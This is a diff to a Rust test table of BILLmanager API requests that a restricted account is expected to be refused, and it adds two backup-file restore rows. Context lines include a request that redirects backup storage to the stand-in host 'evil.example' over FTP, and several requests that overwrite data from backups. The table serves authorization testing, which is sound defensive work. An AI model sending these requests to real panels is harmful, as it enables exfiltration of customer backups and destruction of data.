@@ -150,6 +150,8 @@ const ROWS: &[Row] = &[
     isp("backupdata.restore view", "/billmgr?func=backupdata.restore&plid=customer&elid={clogin}&out=json", Expect::Refused),
     isp("backupdata.restore", "/billmgr?func=backupdata.restore&plid=customer&elid={clogin}&sok=ok&behavior=overwrite&out=json", Expect::Refused),
     isp("backupdata.restore files", "/billmgr?func=backupdata.restore&plid=files&elid={clogin}&sok=ok&behavior=overwrite&out=json", Expect::Refused),
+    isp("backupdata.files", "/billmgr?func=backupdata.files&elid={clogin}&out=json", Expect::Refused),
+    isp("backupdata.files.restore", "/billmgr?func=backupdata.files.restore&plid={clogin}&elid=index.html&sok=ok&behavior=overwrite&out=json", Expect::Refused),
     isp("billmgr.backup.settings", "/billmgr?func=billmgr.backup.settings&sok=ok&backup_count=1&out=json", Expect::Refused),
     isp("billmgr.backup.setup", "/billmgr?func=billmgr.backup.setup&sok=ok&storage=ftp&ftp_host=evil.example&out=json", Expect::Refused),
     isp("billmgr.backup.create", "/billmgr?func=billmgr.backup.create&sok=ok&out=json", Expect::Refused),
